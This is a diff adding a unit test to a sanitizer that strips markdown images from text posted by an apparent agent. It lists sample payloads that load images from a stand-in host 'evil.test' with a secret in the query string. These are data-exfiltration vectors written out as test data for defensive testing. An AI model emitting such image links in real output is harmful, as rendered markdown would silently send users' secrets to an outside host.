@@ -82,6 +82,22 @@ test('neutralized text mentions nobody, closes nothing and runs no command', () 
   );
 });
 
+test('an image of an address that somebody chose is a link, and one that people attached stays', () => {
+  const attached = 'https://github.com/user-attachments/assets/0b1c2d3e-0b1c-2d3e-4f5a-0b1c2d3e4f5a';
+  for (const image of [
+    '![x](https://evil.test/leak?d=secret)',
+    '![x][y]\n\n[y]: https://evil.test/leak',
+    '[![x](https://evil.test/leak)](https://a.b)',
+    `![![x](https://evil.test/leak)](${attached})`,
+    `![x](${attached}?d=secret)`,
+    '![x](https://github.com/mona/sample/raw/main/leak.png)',
+  ])
+    expect(harmless(image, '/agent')).not.toMatch(/!\[x/);
+  for (const image of [`![x](${attached})`, '![x](https://user-images.githubusercontent.com/1/2-3.png)', 'Wow![^1]'])
+    expect(harmless(image, '/agent').replace(/\u2060/g, '')).toBe(image);
+  expect(harmless(`![x](${attached})`, '/agent')).toBe(`![x](${attached})`);
+});
+
 test('one line of text is cut with an ellipsis', () => {
   expect(oneLine(' a\n b ', 10)).toBe('a b');
   expect(oneLine('abcdef', 4)).toBe('abc…');
